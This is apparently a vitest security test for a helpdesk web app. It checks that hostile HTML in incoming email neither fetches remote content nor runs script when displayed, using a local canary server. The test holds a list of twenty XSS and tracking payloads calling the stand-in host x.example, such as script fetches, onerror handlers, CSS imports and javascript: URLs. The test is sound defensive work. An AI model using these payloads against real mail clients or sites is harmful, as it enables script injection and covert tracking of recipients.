import { once } from 'node:events'
import { type AddressInfo, createServer } from 'node:net'
import { expect, test, vi } from 'vitest'
import { aMail } from '../helpers/mails/a-mail.ts'
import { aBrowser, enter, listening } from './a-browser.ts'
import { aDesk, service } from './a-desk.ts'

const cleaner = vi.hoisted(() => ({ isOn: true }))

vi.mock('../../src/web/messages/sanitise-confined.ts', async () => {
  const { sanitiseHtml } = await import('../../src/web/messages/sanitise-html.ts')
  const untouched = (html: string) => ({ html, blocked: { count: 0, hosts: [], trackers: 0 } })
  return {
    sanitiseConfined: async (html: string, images: ReadonlyMap<string, string>, notShown: string) =>
      cleaner.isOn ? sanitiseHtml(html, images, notShown) : untouched(html),
  }
})

/** Each would tell `x.example` that it was opened, or run something here. */
const hostile = [
  '<script>fetch("http://x.example/1");alert(1)</script>',
  '<img src="http://x.example/2.gif"><img src=x onerror="alert(2)">',
  '<svg onload="alert(3)"><image href="http://x.example/3"/><feImage href="http://x.example/3b"/></svg>',
  '<svg><animate onbegin="alert(4)" attributeName="x" dur="1s"/></svg>',
  '<style>@import url("http://x.example/5.css"); body{background:url(http://x.example/5)}</style>',
  '<link rel="stylesheet" href="http://x.example/6.css"><link rel="prefetch" href="http://x.example/6">',
  '<iframe src="http://x.example/7"></iframe><iframe srcdoc="<script>top.alert(7)</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=http://x.example/8">',
  '<base href="http://x.example/"><img src="9.gif">',
  '<video src="http://x.example/10" poster="http://x.example/10b" autoplay></video><audio src="http://x.example/10c" autoplay></audio>',
  '<object data="http://x.example/11"></object><embed src="http://x.example/11b">',
  '<body background="http://x.example/12"><table background="http://x.example/12b"><tr><td>a</td></tr></table>',
  '<p style="background-image:url(http://x.example/13);--a:url(http://x.example/13b)">a</p>',
  '<form action="http://x.example/14"><button autofocus onfocus="this.click()">a</button></form>',
  '<math><mtext><table><mglyph><style><img src="http://x.example/15" onerror="alert(15)">',
  '<img srcset="http://x.example/16 1x"><picture><source srcset="http://x.example/16b"><img></picture>',
  '<input type="image" src="http://x.example/17"><details open ontoggle="alert(17)">a</details>',
  '<a href="javascript:alert(18)" autofocus onfocus="this.click()">a</a><a href="data:text/html,<script>alert(18)</script>">b</a>',
  '<iframe src="data:text/html,<script>fetch(\'http://x.example/19\')</script>"></iframe><frameset><frame src="http://x.example/19b"></frameset>',
  '<div style="width:expression(alert(20));-moz-binding:url(http://x.example/20)">\u202Etxt.exe</div>',
]

/**
 * With the cleaning on not even a connection is opened. With it off Chromium opens one for a nested frame
 * before it looks at the policy, and sends nothing over it.
 */
test.each([
  ['cleaned', true],
  ['with the cleaning switched off', false],
] as const)(
  'hostile mail fetches nothing and runs nothing, %s',
  { timeout: 240_000 },
  async (_name, isOn) => {
    cleaner.isOn = isOn
    const desk = await aDesk()
    const address = await listening(desk)
    const signs: string[] = []
    const canary = createServer((socket) => {
      if (isOn) signs.push('a connection')
      socket.once('data', (data) => signs.push(data.toString('latin1').slice(0, 40)))
      socket.setTimeout(500, () => socket.destroy())
    }).listen(0, '127.0.0.1')
    await once(canary, 'listening')
    const { port } = canary.address() as AddressInfo
    const context = await aBrowser({}, [`--host-resolver-rules=MAP x.example:* 127.0.0.1:${port}`])
    await enter(context, address, (await desk.signedIn(await desk.person('advisor'))).cookie)
    const page = await context.newPage()
    context.on('dialog', (dialog) => {
      signs.push(dialog.message())
      void dialog.dismiss()
    })
    for (const html of hostile) {
      const reference = await desk.receive(aMail({ to: service, html, text: 'Hei' }))
      const view = (await desk.store.ticketByReference(reference, desk.now()))!
      const { id } = view.messages.find(({ direction }) => direction === 'in')!
      await page.goto(`${address}/tickets/${reference}`)
      await page.goto(`${address}/messages/${id}/original`, { waitUntil: 'load' })
      expect(page.frames().length).toBeGreaterThan(1)
      expect({ html, signs }).toEqual({ html, signs: [] })
      expect(page.url()).toBe(`${address}/messages/${id}/original`)
    }
    expect(signs).toEqual([])
    await page.goto('http://x.example/').catch(() => undefined)
    await expect.poll(() => signs.length, { timeout: 30_000 }).toBeGreaterThan(0)
    canary.close()
    await context.close()
    await desk.app.close()
  },
)
